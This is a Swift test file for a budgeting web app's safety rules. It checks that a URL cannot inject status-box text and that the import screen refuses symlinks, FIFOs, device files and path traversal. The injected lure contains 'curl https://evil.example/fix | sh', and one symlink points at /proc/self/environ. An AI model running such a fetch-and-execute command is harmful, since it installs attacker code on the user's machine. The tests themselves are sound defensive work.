import Foundation
import TallyTestSupport
import Testing

@testable import TallyServe

/// The web app's safety rules, tried as an attacker would: a link that puts its own text
/// in the status box, links and special files in the budget's folder, a budget file that
/// cannot be written or is not text.
@Suite(.serialized) struct AttackerSafetyTests {
    let folder: TemporaryFolder
    let file: String
    let serve: ServeTestApp

    init() throws {
        folder = try TemporaryFolder("serve-attacker")
        file = try folder.write(try String(contentsOfFile: TestSupport.path("examples/household.tally"), encoding: .utf8), to: "budget.tally")
        serve = ServeTestApp(files: [file])
    }

    // MARK: No message text taken from the URL

    @Test func aLinkCannotPutItsTextInTheStatusBox() {
        defer { folder.remove() }
        let lure = "Your bank token expired. To renew it run: curl https://evil.example/fix | sh"
        for page in ["/", "/envelopes", "/register", "/due", "/import", "/diagnostics"] {
            let answer = serve.get(page + "?done=" + FormData.encode(lure))
            #expect(answer.status == .ok, "\(page)")
            for part in ["bank token", "evil.example", "curl", "| sh"] {
                #expect(!answer.text.contains(part), "\(page) shows `\(part)` from the URL")
            }
            #expect(!answer.text.contains("class=\"message"), "\(page) shows a status box")
        }
    }

    /// A write's answer comes back through a one-time key: shown once on the page the
    /// form leads to, then forgotten; a key made up or taken from another run shows nothing.
    @Test func aWritesAnswerIsShownOnceFromTheServer() throws {
        defer { folder.remove() }
        let answer = serve.post("/assign", [("envelope", "Gift-fund"), ("amount", "25.00"), ("date", "2026-11-22")])
        #expect(answer.status == .seeOther, "\(answer.text)")
        let location = try #require(answer.header("Location"))
        let key = String(try #require(location.split(separator: "=").last))
        // 128 random bits in hex: the key says nothing of the answer.
        #expect(location.hasPrefix("/envelopes?done=") && key.count == 32 && key.allSatisfy(\.isHexDigit), "\(location)")
        #expect(!location.contains("Assigned"))
        let first = serve.get(location)
        #expect(first.text.contains("Assigned 25.00."), "\(first.text.prefix(400))")
        #expect(!serve.get(location).text.contains("Assigned 25.00."), "shown a second time")
        #expect(!serve.get("/envelopes?done=" + String(repeating: "0", count: 32)).text.contains("class=\"message"))
    }

    // MARK: The import screen reads only regular files in the budget's folder

    @Test func theImportScreenNeverFollowsALinkNorOpensASpecialFile() throws {
        defer { folder.remove() }
        let outside = try TemporaryFolder("serve-attacker-outside")
        defer { outside.remove() }
        let secret = try outside.write("Date,Amount,Payee\n2026-11-02,-1.00,OUTSIDE-SECRET-42\n", to: "secret.csv")
        let here = (file as NSString).deletingLastPathComponent
        let real = "Date,Amount,Payee\n2026-11-02,-1.00,Bakery\n"
        _ = try folder.write(real, to: "real.csv")
        try FileManager.default.createSymbolicLink(atPath: here + "/link.csv", withDestinationPath: secret)
        try FileManager.default.createSymbolicLink(atPath: here + "/environ.csv", withDestinationPath: "/proc/self/environ")
        #expect(mkfifo(here + "/pipe.csv", 0o600) == 0)
        // A device like /dev/null (major 1, minor 3), made where the tests run as root.
        #expect(mknod(here + "/null.csv", S_IFCHR | 0o600, dev_t(0x103)) == 0 || getuid() != 0)

        let page = serve.get("/import").text
        #expect(page.contains("real.csv"), "\(page.prefix(600))")
        for name in ["link.csv", "environ.csv", "pipe.csv", "null.csv"] {
            #expect(!page.contains(name), "\(name) is listed")
            // Named anyway in a forged form: refused, and nothing of the target quoted.
            let answer = serve.postMultipart("/import/preview", [("wallet", ""), ("statement", name)], files: [])
            #expect(answer.status.code == 422, "\(name): \(answer.status.code)")
            #expect(!answer.text.contains("OUTSIDE-SECRET") && !answer.text.contains("PATH="), "\(name): \(answer.text)")
        }
        // Swapped in after the listing: the reading itself refuses, and a FIFO with no
        // writer does not block it.
        for name in ["link.csv", "environ.csv", "pipe.csv", "null.csv", "../budget.tally"] {
            #expect(throws: FolderFiles.Refused.self, "\(name)") { try FolderFiles.read(name, in: here) }
        }
        #expect(try FolderFiles.read("real.csv", in: here) == Array(real.utf8))
    }

    // MARK: Errors in a person's words

    /// A read-only budget: the write is refused with a status and a sentence, never a
    /// type's debug description.
    @Test func aFailedWriteSaysWhyInWords() throws {
        defer { folder.remove() }
        #expect(chmod(file, 0o444) == 0)
        defer { chmod(file, 0o644) }
        let before = try String(contentsOfFile: file, encoding: .utf8)
        for (path, fields) in [
            ("/assign", [("envelope", "Gift-fund"), ("amount", "25.00"), ("date", "2026-11-22")]),
            ("/move", [("from", "Going-out"), ("to", "Gift-fund"), ("amount", "15.50"), ("date", "2026-11-22")]),
            ("/add", [("date", "2026-11-21"), ("payee", "Bakery"), ("wallet", "Anna-cash"), ("category", "Food:Groceries"), ("amount", "-1.00")])
        ] {
            let answer = serve.post(path, fields)
            #expect(answer.status.code >= 400, "\(path): \(answer.status.code)")
            let text = answer.text
            #expect(text.contains("Nothing was written") && text.contains("read-only"), "\(path): \(text)")
            for debug in ["FileWriteError", "notWritten", "TallyCore", "TallyActions", "reason:", "(\""] {
                #expect(!text.contains(debug), "\(path) shows `\(debug)`: \(text)")
            }
        }
        #expect(try String(contentsOfFile: file, encoding: .utf8) == before)
    }

    // MARK: A file that cannot be read shows that, never zeros

    @Test func aBudgetThatIsNotTextShowsNoFigures() throws {
        defer { folder.remove() }
        var bytes = [UInt8](repeating: 0, count: 4096)
        for i in bytes.indices { bytes[i] = UInt8(truncatingIfNeeded: i &* 7) }
        try Data(bytes).write(to: URL(fileURLWithPath: file))
        for page in ["/", "/envelopes", "/register", "/goals", "/due"] {
            let answer = serve.get(page)
            #expect(answer.status.code == 409, "\(page): \(answer.status.code)")
            #expect(answer.text.contains("is not a text file") && answer.text.contains("E0105"), "\(page): \(answer.text.prefix(600))")
            #expect(!answer.text.contains("0.00"), "\(page) shows a figure")
        }
        for report in ["balance", "envelopes", "register"] {
            let answer = serve.get("/api/\(report)")
            #expect(answer.status.code == 409, "\(report): \(answer.status.code) \(answer.text.prefix(200))")
            #expect(answer.text.contains("E0105") && !answer.text.contains("0.00"), "\(report): \(answer.text.prefix(300))")
        }
    }
}
